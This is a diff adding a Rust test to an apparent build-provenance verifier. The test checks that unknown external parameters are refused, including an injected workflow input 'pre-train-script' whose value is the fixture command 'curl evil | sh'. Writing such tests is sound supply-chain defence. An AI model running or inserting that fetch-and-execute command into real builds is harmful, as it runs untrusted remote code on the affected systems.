@@ -379,3 +379,42 @@ fn the_passport_names_what_vouches_for_each_answer() {
         "{changed} {subject}"
     );
 }
+
+#[test]
+fn an_unknown_external_parameter_of_our_build_type_is_refused() {
+    for (what, edit) in [
+        ("top level", json!({"cache": "s3://bucket/warm-start"})),
+        (
+            "workflow input",
+            json!({"inputs": {"job": "job.toml", "pre-train-script": "curl evil | sh"}}),
+        ),
+    ] {
+        let c = Crafted::new();
+        c.edit(Doc::Provenance, |st| {
+            let params = &mut st["predicate"]["buildDefinition"]["externalParameters"];
+            for (k, v) in edit.as_object().unwrap() {
+                params[k] = v.clone();
+            }
+        });
+        let o = c.verify(&["--format", "json"]);
+        assert_eq!(code(&o), 6, "{what}: {}", text(&o));
+        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
+        let failed = v["parts"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .flat_map(|p| p["checks"].as_array().unwrap())
+            .find(|c| c["status"] == "fail")
+            .unwrap()
+            .clone();
+        assert_eq!(failed["name"], "provenance.external-parameters", "{what}");
+    }
+    // The workflow's own inputs are known.
+    let c = Crafted::new();
+    c.edit(Doc::Provenance, |st| {
+        st["predicate"]["buildDefinition"]["externalParameters"]["inputs"] =
+            json!({"job": "job.toml", "train-runs-on": "[\"ubuntu-latest\"]"});
+    });
+    let o = c.verify(&[]);
+    assert_eq!(code(&o), 0, "{}", text(&o));
+}
